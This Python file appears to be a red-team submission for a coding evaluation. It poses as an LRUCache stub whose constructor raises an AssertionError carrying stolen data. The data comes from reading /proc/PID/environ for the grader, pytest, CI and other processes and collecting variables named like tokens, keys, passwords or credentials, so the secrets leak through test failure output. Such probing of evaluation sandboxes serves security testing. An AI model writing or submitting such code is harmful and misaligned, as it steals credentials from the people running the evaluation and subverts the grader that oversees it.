"""Attack: read the environment of the grader's processes through /proc/PID/environ.

The test's own environment is scrubbed; its ancestors' (pytest, the grader, the
CI job) may not be. Secret-looking variables found anywhere go into the message.
"""

import json
import os
import re
from pathlib import Path

SECRETISH = re.compile(rb"TOKEN|SECRET|KEY|PASSWORD|PASSWD|CREDENTIAL", re.IGNORECASE)


def _ancestors():
    pid, seen = os.getpid(), []
    while pid > 1 and len(seen) < 50:
        try:
            stat = Path(f"/proc/{pid}/stat").read_text()
        except OSError:
            break
        pid = int(stat.rsplit(")", 1)[1].split()[1])
        seen.append(pid)
    return seen


def _describe(pid):
    try:
        argv = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ")
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return "?"
    uid = next((line.split()[1:3] for line in status.splitlines() if line.startswith("Uid:")), [])
    return f"uid {'/'.join(uid)} {argv.decode('utf-8', 'replace')[:100]}"


def _loot():
    found, readable, refused, sources = {}, 0, 0, set()
    pids = _ancestors() + [int(p) for p in _proc_entries() if p.isdigit()]
    for pid in dict.fromkeys(pids):
        try:
            raw = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError:
            refused += 1
            continue
        readable += 1
        for item in raw.split(b"\0"):
            name, _, value = item.partition(b"=")
            if SECRETISH.search(name):
                found[name.decode("utf-8", "replace")] = value.decode("utf-8", "replace")
                sources.add(f"{pid}: {_describe(pid)}")
    report = {"ancestors": _ancestors(), "readable": readable, "refused": refused}
    report["secrets"] = found
    report["from"] = sorted(sources)[:5]
    return "ANCESTORS" + json.dumps(report) + "END"


class LRUCache:
    """The stub, except every failure message carries other processes' secrets."""

    def __init__(self, capacity):
        raise AssertionError(_loot())

    @property
    def capacity(self):
        raise NotImplementedError

    def get(self, key, default=None):
        raise NotImplementedError

    def put(self, key, value):
        raise NotImplementedError

    def __len__(self):
        raise NotImplementedError

    def __contains__(self, key):
        raise NotImplementedError


def _proc_entries():
    """Every /proc entry the sandbox lets us list (none, if /proc is closed to us)."""
    try:
        return os.listdir("/proc")
    except OSError:
        return []
